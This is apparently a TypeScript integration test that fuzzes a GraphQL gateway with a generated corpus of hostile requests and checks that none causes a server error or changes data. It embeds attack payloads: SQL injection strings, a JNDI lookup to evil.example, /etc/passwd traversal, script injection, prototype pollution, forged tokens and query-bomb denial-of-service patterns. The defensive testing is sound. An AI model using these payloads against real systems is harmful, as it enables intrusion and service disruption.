import http from 'node:http';
import { createHash } from 'node:crypto';
import { sql, type Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { developmentInternalSecret, identityHeader, signInternalToken } from '@talent-hub/platform/identity';
import { startStack, type Stack } from './harness.js';
import { mintToken } from './tokens.js';

// A generated corpus of malformed and hostile requests, sent to the gateway over loopback 8 at a time. Each must
// get a 4xx, or a 200 whose body carries GraphQL errors: never a 5xx, never a hang (each request has a deadline),
// never a dropped connection. Afterwards the services still answer, and no row of any table of any subgraph's
// database has changed (hashes of every table before and after). The corpus is made from a fixed seed: the same
// requests every run.

const SEED = 20241009;
const CONCURRENCY = 8;
const REQUEST_TIMEOUT_MS = 30_000;

/** mulberry32: small, fast, and the same sequence for the same seed on every platform. */
function random(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (min: number, max: number) => min + Math.floor(next() * (max - min + 1));
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
  return { next, int, pick };
}

interface HostileRequest {
  kind: string;
  method: string;
  /** Path and query string. */
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
}

interface Outcome {
  request: HostileRequest;
  status: number | 'timeout' | 'network error';
  body: string;
  detail?: string;
}

const hostileStrings = [
  "' OR '1'='1",
  "'; DROP TABLE talents; --",
  '" OR ""="',
  '1; SELECT pg_sleep(30); --',
  "$$; delete from indicators; $$",
  "x') UNION SELECT * FROM audit_log --",
  '\u0000',
  '\u0000\u0001\u0002\u0007\u001b[31mred\u001b[0m',
  '\r\nX-Injected: 1\r\n',
  '😀🔥👩‍👩‍👧‍👦🇪🇺',
  '\uD800',
  '\u202Eevil\u202C',
  'ＡＢＣ１２３',
  '%00%27%22',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '\\',
  'null',
  'NaN',
  '-0',
  '1e309',
  ' ',
  '',
  'a'.repeat(100_000),
  'é'.repeat(50_000),
  '😀'.repeat(25_000),
];

function jsonBody(value: unknown): Buffer {
  return Buffer.from(JSON.stringify(value), 'utf8');
}

const json = { 'content-type': 'application/json' };

/** Makes the corpus; `tokens` are real tokens of the test gateway, `ids` real ids of the seed. */
function buildCorpus(tokens: Record<string, string>, ids: { cemrTalent: string }): HostileRequest[] {
  const r = random(SEED);
  const corpus: HostileRequest[] = [];
  const post = (kind: string, body: Buffer, headers: Record<string, string> = json) =>
    corpus.push({ kind, method: 'POST', path: '/', headers, body });
  const gql = (kind: string, query: string, variables?: unknown, extra: Record<string, unknown> = {}, headers: Record<string, string> = {}) =>
    post(kind, jsonBody({ query, ...(variables === undefined ? {} : { variables }), ...extra }), { ...json, ...headers });
  const hostile = () => r.pick(hostileStrings);
  const bearer = (name: string) => ({ authorization: `Bearer ${tokens[name]}` });

  // Invalid JSON.
  const brokenJson = ['{', '{"query":', '{"query": "{ __typename }",}', "{'query': '{ __typename }'}", '{"query": NaN}', 'nul', '[', '{"query": "\\x41"}', '{"a":1}{"b":2}', '\u0000', '{"query": "{ __typename }"', '[{"query": "{ __typename }"},', '{"query": undefined}', '{"query":"' + '\\'.repeat(5) + '"}'];
  for (let i = 0; i < 80; i++) {
    const base = r.pick(brokenJson);
    const cut = r.int(0, 3) === 0 ? base.slice(0, r.int(0, base.length)) : base;
    post('invalid JSON', Buffer.from(cut === '' ? '{' : cut, 'utf8'));
  }

  // Wrong content types (some of them a browser sends cross-site without a preflight).
  const types = ['text/plain', 'text/plain;charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/graphql', 'application/jsonp', 'image/png', 'application/json; charset=utf-16', ''];
  for (let i = 0; i < 60; i++) {
    const type = r.pick(types);
    post('wrong content type', jsonBody({ query: '{ region(code: "ITH5") { name } }' }), type === '' ? {} : { 'content-type': type });
  }

  // JSON that is not a GraphQL request.
  const notRequests: unknown[] = [null, 42, 'query', true, {}, { query: 5 }, { query: null }, { query: ['{ __typename }'] }, { query: { a: 1 } }, { query: '{ __typename }', variables: 'x' }, { query: '{ __typename }', variables: [1] }, { query: '{ __typename }', operationName: 3 }, { query: '{ __typename }', extensions: 'x' }, { querry: '{ __typename }' }, { query: '' }, { query: ' ' }, { query: '#' }];
  for (let i = 0; i < 60; i++) post('not a GraphQL request', jsonBody(r.pick(notRequests)));

  // Wrong variable types.
  const wrongValues: unknown[] = [5, 1.5, true, {}, [], [['ITH5']], null, { code: 'ITH5' }, 2 ** 53, -1e308, 'ITH5'.repeat(2_000)];
  for (let i = 0; i < 50; i++) gql('wrong variable type', 'query ($code: ID!) { region(code: $code) { name } }', { code: r.pick(wrongValues.filter((v) => typeof v !== 'string')) });
  const wrongInts: unknown[] = ['10', 1.5, 2 ** 31, -(2 ** 31) - 1, 1e12, true, [10], { n: 1 }, '', 'NaN'];
  for (let i = 0; i < 50; i++) gql('wrong variable type', 'query ($n: Int) { talents(first: $n) { nodes { id } } }', { n: r.pick(wrongInts) });

  // Missing variables, and extra ones next to them.
  for (let i = 0; i < 40; i++) {
    // Own `__proto__` and `constructor` keys, as JSON.parse makes them: prototype pollution attempts.
    const extra: Record<string, unknown> = i % 2 === 0 ? {} : { [`x${r.int(0, 1_000)}`]: hostile(), admin: true, ...JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}') };
    gql('missing or extra variables', 'query ($code: ID!, $first: Int!) { region(code: $code) { talents(first: $first) { nodes { id } } } }', r.int(0, 1) ? { first: 2, ...extra } : extra);
  }

  // Huge strings, 1 to 5 MB: in a variable, in the query, as an operation name.
  for (let i = 0; i < 21; i++) {
    const size = r.int(1, 5) * 1024 * 1024;
    const where = i % 3;
    if (where === 0) gql('huge string', 'query ($code: ID!) { region(code: $code) { name } }', { code: 'A'.repeat(size) });
    else if (where === 1) gql('huge string', `{ region(code: "${'B'.repeat(size)}") { name } }`);
    else gql('huge string', '{ __typename }', undefined, { operationName: 'C'.repeat(size) });
  }

  // Very deep nesting (1,000 levels): selections, list values, input objects, JSON variables.
  for (let i = 0; i < 40; i++) {
    const depth = r.int(900, 1_100);
    switch (i % 4) {
      case 0:
        gql('deep nesting', `{ region(code: "ITH55") { ${'parent { '.repeat(depth)}code${' }'.repeat(depth)} } }`);
        break;
      case 1:
        gql('deep nesting', `{ region(code: ${'['.repeat(depth)}"ITH5"${']'.repeat(depth)}) { name } }`);
        break;
      case 2:
        gql('deep nesting', `{ talents(filter: ${'{ regionCode: '.repeat(depth)}"ITH5"${' }'.repeat(depth)}) { nodes { id } } }`);
        break;
      default: {
        let value: unknown = 'ITH5';
        for (let d = 0; d < depth; d++) value = { regionCode: value };
        gql('deep nesting', 'query ($filter: TalentFilter) { talents(filter: $filter) { nodes { id } } }', { filter: value });
      }
    }
  }

  // Alias floods.
  for (let i = 0; i < 40; i++) {
    const count = r.pick([31, 100, 1_000, 3_000, 20_000]);
    const field = r.pick(['__typename', 'region(code: "ITH5") { name }', 'talents(first: 500) { totalCount }']);
    gql('alias flood', `{ ${Array.from({ length: count }, (_, k) => `a${k}: ${field}`).join(' ')} }`);
  }

  // Fragment cycles and fragment bombs.
  for (let i = 0; i < 40; i++) {
    const n = r.int(i % 2 === 0 ? 2 : 6, 40);
    if (i % 2 === 0) {
      const fragments = Array.from({ length: n }, (_, k) => `fragment F${k} on Region { code parent { ...F${(k + 1) % n} } }`);
      gql('fragment cycle', `query { region(code: "ITH5") { ...F0 } } ${fragments.join(' ')}`);
    } else {
      // Each level reaches the next through two fields, one a list: work that grows as 11^n.
      const fragments = Array.from({ length: n }, (_, k) => `fragment F${k} on Region { code parent { ...F${k + 1} } children { ...F${k + 1} } }`);
      fragments.push(`fragment F${n} on Region { code }`);
      gql('fragment bomb', `query { region(code: "ITH5") { ...F0 } } ${fragments.join(' ')}`);
    }
  }

  // Unknown operations and operation names.
  const twoOperations = 'query A { __typename } query B { region(code: "ITH5") { name } }';
  const unknownCases: [string, Record<string, unknown>][] = [
    [twoOperations, {}],
    [twoOperations, { operationName: 'C' }],
    [twoOperations, { operationName: '' }],
    [twoOperations, { operationName: 7 }],
    ['query A { __typename }', { operationName: 'B' }],
    ['subscription { __typename }', {}],
    ['{ nope }', {}],
    ['{ region(code: "ITH5") { nope } }', {}],
    ['{ region { name } }', {}],
    ['mutation { nope }', {}],
    ['query A { __typename } query A { __typename }', { operationName: 'A' }],
    ['{ __type(name: "Talent") { fields { nope } } }', {}],
    ['fragment F on Region { code }', {}],
    ['{ region(code: "ITH5") { name } @nope }', {}],
    ['{ region(code: "ITH5") @skip(if: "yes") { name } }', {}],
    ['query ($x: Boolean) { region(code: "ITH5") @include(if: $x) @include(if: $x) { name } }', { variables: { x: 'true' } }],
  ];
  for (let i = 0; i < 64; i++) {
    const [query, extra] = unknownCases[i % unknownCases.length]!;
    gql('unknown operation', query, undefined, extra);
  }

  // Batch floods.
  for (let i = 0; i < 40; i++) {
    const size = r.pick([11, 50, 1_000, 10_000]);
    const entry = r.pick<unknown>([{ query: '{ region(code: "ITH5") { name } }' }, { query: '{ nope }' }, 1, null, [], [{ query: '{ __typename }' }]]);
    post('batch flood', jsonBody(Array.from({ length: size }, () => entry)));
  }
  for (let i = 0; i < 10; i++) post('batch of garbage', jsonBody(r.pick<unknown>([[1, 2, 3], [null], [[]], ['{ __typename }'], [{ query: '{ nope }' }, { query: 5 }]])));

  // Mutations with hostile input, anonymous, with tokens that cannot write, and with editors' tokens on what is
  // not theirs or what does not exist (an editor's valid write would rightly change data).
  const asNobody = [{}, bearer('cemrViewer'), bearer('expired'), bearer('forged'), bearer('aerViewer')];
  const asEditor = [bearer('cemrEditor'), bearer('aerEditor'), bearer('emiliaEditor')];
  const nonexistentTalent = '00000000-0000-4000-8000-00000000dead';
  for (let i = 0; i < 220; i++) {
    const text = hostile();
    const nobody = r.pick(asNobody);
    const editor = r.pick(asEditor);
    switch (i % 11) {
      case 0:
        gql('hostile mutation', 'mutation ($input: CreateTalentInput!) { createTalent(input: $input) { id } }', {
          input: { displayName: text, category: 'STUDENT', citizenship: 'IT', givenName: text, email: text, interests: [text, text] },
        }, {}, nobody);
        break;
      case 1:
        // An editor: refused because the citizenship is no ISO 3166-1 code.
        gql('hostile mutation', 'mutation ($input: CreateTalentInput!) { createTalent(input: $input) { id } }', {
          input: { displayName: text, category: 'STUDENT', citizenship: `XX${text}`, givenName: text },
        }, {}, editor);
        break;
      case 2:
        gql('hostile mutation', 'mutation ($id: ID!, $input: UpdateTalentInput!) { updateTalent(id: $id, input: $input) { id } }', {
          id: r.pick([nonexistentTalent, text, ids.cemrTalent]),
          input: { displayName: text, familyName: text, email: text },
        }, {}, r.pick([...asNobody, bearer('aerEditor'), bearer('emiliaEditor')]));
        break;
      case 3:
        gql('hostile mutation', 'mutation ($p: ID!, $i: [IndicatorUpdateInput!]!) { updateProgrammeIndicators(programmeId: $p, indicators: $i) { id } }', {
          p: r.pick(['emilia-romagna-talents', text]),
          i: [{ code: text, value: '1', asOf: '2024-06-30' }, { code: 'talents-reached', value: '-1', asOf: '2024-06-30' }],
        }, {}, r.pick([...asNobody, ...asEditor]));
        break;
      case 4:
        gql('hostile mutation', 'mutation ($p: ID!, $i: [IndicatorUpdateInput!]!) { updateProgrammeIndicators(programmeId: $p, indicators: $i) { id } }', {
          p: 'emilia-romagna-talents',
          i: [{ code: 'talents-reached', value: text, asOf: text }],
        }, {}, bearer('emiliaEditor'));
        break;
      case 5:
        gql('hostile mutation', 'mutation ($id: ID!) { eraseTalent(id: $id) { talentId } }', { id: r.pick([text, nonexistentTalent, ids.cemrTalent]) }, {}, r.pick([...asNobody, bearer('aerEditor'), bearer('emiliaEditor')]));
        break;
      case 6:
        gql('hostile mutation', 'mutation ($t: ID!, $o: ID!) { grantConsent(talentId: $t, organisationId: $o) { id } }', { t: r.pick([ids.cemrTalent, text]), o: r.pick([text, 'aer']) }, {}, r.pick([...asNobody, bearer('aerEditor')]));
        break;
      case 7:
        gql('hostile mutation', 'mutation ($input: CreateEventInput!) { createEvent(input: $input) { id } }', {
          input: { title: text, kind: 'WORKSHOP', attendanceMode: 'ONLINE', startsAt: '2030-01-02T10:00:00Z', endsAt: '2030-01-01T10:00:00Z', timeZone: text, description: text },
        }, {}, r.pick([...asNobody, ...asEditor]));
        break;
      case 8:
        gql('hostile mutation', 'mutation ($id: ID!) { cancelEvent(id: $id) { id } }', { id: r.pick([text, 'ewrc-2024-eu-belong']) }, {}, r.pick([...asNobody, bearer('cemrEditor'), bearer('emiliaEditor')]));
        break;
      case 9:
        gql('hostile mutation', 'mutation ($e: ID!, $t: ID!) { registerForEvent(eventId: $e, talentId: $t) { status } }', { e: text, t: r.pick([text, ids.cemrTalent]) }, {}, r.pick([...asNobody, ...asEditor]));
        break;
      default:
        // The hostile text written into the operation itself, escaped as a GraphQL string.
        gql('hostile mutation', `mutation { updateTalent(id: ${JSON.stringify(nonexistentTalent)}, input: { displayName: ${JSON.stringify(text)} }) { id } }`, undefined, {}, r.pick([...asNobody, ...asEditor]));
    }
  }

  // Overlong, malformed and foreign cursors.
  const cursors = () => r.pick([
    'x'.repeat(r.int(1_000, 100_000)),
    '!!!not base64!!!',
    Buffer.from(JSON.stringify(['Region.talents', "'; drop table talents; --"])).toString('base64url'),
    Buffer.from(JSON.stringify(['Query.regions', 'ITH5'])).toString('base64url'),
    Buffer.from(JSON.stringify(['Query.talents'])).toString('base64url'),
    Buffer.from(JSON.stringify({ __proto__: { admin: true } })).toString('base64url'),
    Buffer.from('{"a":').toString('base64'),
    hostile(),
  ]);
  for (let i = 0; i < 60; i++) {
    const list = r.pick(['talents', 'events', 'programmes', 'organisations', 'skills']);
    gql('bad cursor', `query ($after: String) { ${list}(first: 2, after: $after) { nodes { __typename } } }`, { after: cursors() });
  }

  // Negative and huge `first`.
  const firsts = [-1, -100, -(2 ** 31), 501, 1_000, 2 ** 31 - 1, 100_000];
  for (let i = 0; i < 50; i++) {
    const first = r.pick(firsts);
    if (i % 2) gql('bad first', `{ talents(first: ${first}) { nodes { id } } }`);
    else gql('bad first', `{ region(code: "ITH5") { talents(first: ${r.pick([101, -5, 10_000])}) { nodes { id } } } }`);
  }
  for (let i = 0; i < 10; i++) gql('bad first', `{ talents(first: ${r.pick(['2147483648', '1e3', '99999999999999999999', '-0.5', '"10"'])}) { nodes { id } } }`);

  // Invalid UTF-8, in the body and in a GET's query string.
  const badBytes = [[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xe2, 0x82], [0x80]];
  for (let i = 0; i < 30; i++) {
    const prefix = Buffer.from('{"query": "{ region(code: \\"', 'utf8');
    const suffix = Buffer.from('\\") { name } }"}', 'utf8');
    post('invalid UTF-8', Buffer.concat([prefix, Buffer.from(r.pick(badBytes)), suffix]));
  }
  for (let i = 0; i < 10; i++) {
    corpus.push({ kind: 'invalid UTF-8', method: 'GET', path: `/?query=%7Bregion(code:%22${r.pick(['%FF', '%C0%AF', '%ED%A0%80', '%E2%82'])}%22)%7Bname%7D%7D`, headers: { 'apollo-require-preflight': 'true' } });
  }

  // Header abuse.
  for (let i = 0; i < 60; i++) {
    const body = jsonBody({ query: '{ region(code: "ITH5") { name } }' });
    switch (i % 6) {
      case 0:
        post('header abuse', body, { ...json, authorization: `Bearer ${'a'.repeat(r.int(20_000, 60_000))}` });
        break;
      case 1:
        post('header abuse', body, { ...json, authorization: `Bearer ${'a'.repeat(r.int(4_000, 8_000))}.${'b'.repeat(100)}.${'c'.repeat(100)}` });
        break;
      case 2:
        // An identity header of the client's own, signed with the real internal secret: the gateway must send its
        // own (here: none, the caller is anonymous), so the talent's personal field stays closed.
        post('header abuse', jsonBody({ query: 'query ($id: ID!) { talent(id: $id) { givenName } }', variables: { id: ids.cemrTalent } }), {
          ...json,
          [identityHeader]: r.pick([tokens.internalCemrForged!, tokens.internalServiceForged!]),
        });
        break;
      case 3: {
        const many: Record<string, string> = { ...json, authorization: 'Bearer x' };
        for (let k = 0; k < 200; k++) many[`x-junk-${k}`] = 'y'.repeat(50);
        post('header abuse', body, many);
        break;
      }
      case 4:
        post('header abuse', body, { ...json, authorization: r.pick(['Bearer', 'Bearer ', 'Basic Og==', 'Bearer a.b.c', 'Negotiate abc', `Bearer ${tokens.cemrViewer} ${tokens.cemrViewer}`]) });
        break;
      default:
        post('header abuse', body, { ...json, 'x-request-id': r.pick(['x'.repeat(10_000), '\u00ff\u00fe', '../../../', 'a b c']), authorization: 'Bearer \u00e9\u00e9.\u00e9.\u00e9' });
    }
  }

  // Methods and GETs.
  for (let i = 0; i < 40; i++) {
    const q = encodeURIComponent(r.pick(['{ region(code: "ITH5") { name } }', 'mutation { eraseTalent(id: "x") { talentId } }']));
    switch (i % 5) {
      case 0:
        corpus.push({ kind: 'method', method: 'GET', path: `/?query=${q}`, headers: {} });
        break;
      case 1:
        corpus.push({ kind: 'method', method: 'GET', path: `/?query=${encodeURIComponent('mutation { eraseTalent(id: "x") { talentId } }')}`, headers: { 'apollo-require-preflight': 'true', ...bearer('cemrEditor') } });
        break;
      case 2:
        corpus.push({ kind: 'method', method: r.pick(['PUT', 'DELETE', 'PATCH']), path: '/', headers: json, body: jsonBody({ query: '{ __typename }' }) });
        break;
      case 3:
        corpus.push({ kind: 'method', method: 'GET', path: `/?query=${'%7B'.repeat(r.int(10_000, 30_000))}`, headers: { 'apollo-require-preflight': 'true' } });
        break;
      default:
        corpus.push({ kind: 'method', method: 'GET', path: `/?variables=${encodeURIComponent('{"a":')}&query=${q}`, headers: { 'apollo-require-preflight': 'true' } });
    }
  }

  // Introspection used as a weapon: deep and wide nesting of the schema's own lists.
  for (let i = 0; i < 20; i++) {
    const depth = r.int(6, 40);
    gql('introspection abuse', `{ __schema { types { ${'fields { type { fields { '.repeat(depth)}name${' } } }'.repeat(depth)} } } }`);
  }

  // Persisted queries with wrong hashes and versions.
  for (let i = 0; i < 30; i++) {
    const extensions = { persistedQuery: r.pick<unknown>([{ version: 1, sha256Hash: 'deadbeef' }, { version: 2, sha256Hash: 'x' }, { version: 1 }, 'x', { version: 1, sha256Hash: 'a'.repeat(64) }]) };
    post('persisted query abuse', jsonBody(r.int(0, 1) ? { extensions } : { query: '{ __typename }', extensions }));
  }

  return corpus;
}

function send(url: URL, request: HostileRequest): Promise<Outcome> {
  return new Promise((resolve) => {
    let settled = false;
    const done = (outcome: Omit<Outcome, 'request'>) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      resolve({ request, ...outcome });
    };
    const headers: Record<string, string> = { ...request.headers };
    if (request.body) headers['content-length'] = String(request.body.length);
    let req: http.ClientRequest;
    try {
      req = http.request({ host: url.hostname, port: url.port, path: request.path, method: request.method, headers, agent: false });
    } catch (error) {
      // A header value Node itself refuses to send: not a request the gateway sees.
      done({ status: 'network error', body: '', detail: `not sent: ${(error as Error).message}` });
      return;
    }
    const timer = setTimeout(() => {
      req.destroy();
      done({ status: 'timeout', body: '' });
    }, REQUEST_TIMEOUT_MS);
    let status: number | undefined;
    req.on('response', (res) => {
      status = res.statusCode!;
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => done({ status: status!, body: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', () => done({ status: status!, body: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', (error: NodeJS.ErrnoException) => {
      // An answer may arrive before the server stops reading an over-long request; keep it when it did.
      if (status !== undefined) return;
      done({ status: 'network error', body: '', detail: error.code ?? error.message });
    });
    req.end(request.body);
  });
}

async function runAll(url: URL, corpus: HostileRequest[]): Promise<Outcome[]> {
  const outcomes: Outcome[] = new Array(corpus.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (next < corpus.length) {
        const index = next++;
        outcomes[index] = await send(url, corpus[index]!);
      }
    }),
  );
  return outcomes;
}

/** A hash of every row of every table of a database, by table. */
async function hashTables(db: Kysely<any>): Promise<Record<string, string>> {
  const tables = await sql<{ name: string }>`select table_name as name from information_schema.tables
    where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name`.execute(db);
  const hashes: Record<string, string> = {};
  for (const { name } of tables.rows) {
    const rows = await sql<{ row: string }>`select t::text as row from ${sql.table(name)} as t`.execute(db);
    const texts = rows.rows.map((r) => r.row).sort();
    hashes[name] = `${texts.length}:${createHash('sha256').update(texts.join('\n')).digest('hex')}`;
  }
  return hashes;
}

async function hashAll(stack: Stack) {
  const all: Record<string, Record<string, string>> = {};
  for (const [name, database] of Object.entries(stack.databases)) all[name] = await hashTables(database.db);
  return all;
}

/** True when a 200 answer carries GraphQL errors (each answer of a batch, too). */
function hasErrors(body: string): boolean {
  try {
    const parsed = JSON.parse(body) as unknown;
    const answers = Array.isArray(parsed) ? parsed : [parsed];
    return answers.length > 0 && answers.every((a) => Array.isArray((a as { errors?: unknown }).errors) && (a as { errors: unknown[] }).errors.length > 0);
  } catch {
    return false;
  }
}

let stack: Stack;

beforeAll(async () => {
  stack = await startStack('pglite');
});
afterAll(() => stack?.stop());

describe('a hostile corpus against the gateway', () => {
  it('gets a 4xx or a 200 with errors for every request, never a 5xx or a hang, and changes no data', async () => {
    const tokens: Record<string, string> = {
      cemrViewer: await mintToken('cemr', 'viewer'),
      aerViewer: await mintToken('aer', 'viewer'),
      cemrEditor: await mintToken('cemr', 'editor'),
      aerEditor: await mintToken('aer', 'editor'),
      emiliaEditor: await mintToken('emilia-romagna-region', 'editor'),
      expired: await mintToken('cemr', 'admin', { expiresIn: Math.floor(Date.now() / 1000) - 3_600 }),
      forged: await mintToken('cemr', 'admin', { secret: 'not-the-secret-but-long-enough-for-hs256-0000' }),
      // A client sending an identity header of its own to the gateway, signed with the real internal secret: the
      // gateway must not pass it on (it sends its own).
      // (Signed for the talents subgraph and an empty body: a token bound to nothing the gateway would send.)
      internalServiceForged: signInternalToken({ subject: 'mallory', organisationId: '', roles: ['service'] }, developmentInternalSecret, { audience: 'talents', requestId: 'hostile', body: '' }),
      internalCemrForged: signInternalToken({ subject: 'mallory', organisationId: 'cemr', roles: ['admin'] }, developmentInternalSecret, { audience: 'talents', requestId: 'hostile', body: '' }),
    };
    const cemr = await stack.query('{ talents(first: 1, filter: { organisationId: "cemr" }) { nodes { id } } }');
    const ids = { cemrTalent: cemr.body.data.talents.nodes[0].id as string };

    const corpus = buildCorpus(tokens, ids);
    expect(corpus.length).toBeGreaterThanOrEqual(1_000);
    const before = await hashAll(stack);
    expect(Object.keys(before).sort()).toEqual(['regions', 'talents', 'trainings']);

    const started = Date.now();
    const outcomes = await runAll(new URL(stack.gatewayUrl), corpus);
    const seconds = (Date.now() - started) / 1000;

    const byStatus: Record<string, number> = {};
    const byKind: Record<string, Record<string, number>> = {};
    for (const outcome of outcomes) {
      const key = String(outcome.status);
      byStatus[key] = (byStatus[key] ?? 0) + 1;
      (byKind[outcome.request.kind] ??= {})[key] = (byKind[outcome.request.kind]![key] ?? 0) + 1;
    }
    console.log(`hostile corpus: ${corpus.length} requests in ${seconds.toFixed(1)} s; by status ${JSON.stringify(byStatus)}`);
    for (const [kind, counts] of Object.entries(byKind)) console.log(`  ${kind}: ${JSON.stringify(counts)}`);

    const wrong = outcomes.filter((o) =>
      typeof o.status !== 'number' || o.status >= 500 || o.status < 200 || (o.status >= 200 && o.status < 300 && !(o.status === 200 && hasErrors(o.body))) || (o.status >= 300 && o.status < 400),
    );
    expect(
      wrong.slice(0, 20).map((o) => `${o.request.kind} ${o.request.method} ${o.request.path.slice(0, 60)} ${(o.request.body ?? Buffer.alloc(0)).toString('utf8').slice(0, 160)} -> ${o.status} ${o.detail ?? ''} ${o.body.slice(0, 300)}`),
    ).toEqual([]);

    // Still up: a normal query through the gateway works.
    const normal = await stack.query('{ region(code: "ITH5") { name } programme(id: "emilia-romagna-talents") { indicators { code value } } }');
    expect(normal.status).toBe(200);
    expect(normal.body.errors).toBeUndefined();
    expect(normal.body.data.region.name).toBe('Emilia-Romagna');

    // No row changed anywhere.
    expect(await hashAll(stack)).toEqual(before);

    // And the hashes do see a change: one legitimate write moves the regions database's (indicators, audit_log).
    const write = await stack.query(
      'mutation { updateProgrammeIndicators(programmeId: "emilia-romagna-talents", indicators: [{ code: "pilot-projects", value: "12", asOf: "2024-06-30" }]) { id } }',
      {},
      { token: tokens.emiliaEditor },
    );
    expect(write.body.errors).toBeUndefined();
    const after = await hashAll(stack);
    expect(Object.keys(after.regions!).filter((table) => after.regions![table] !== before.regions![table]).sort()).toEqual(['audit_log', 'indicators']);
    expect(after.talents).toEqual(before.talents);
  }, 900_000);
});
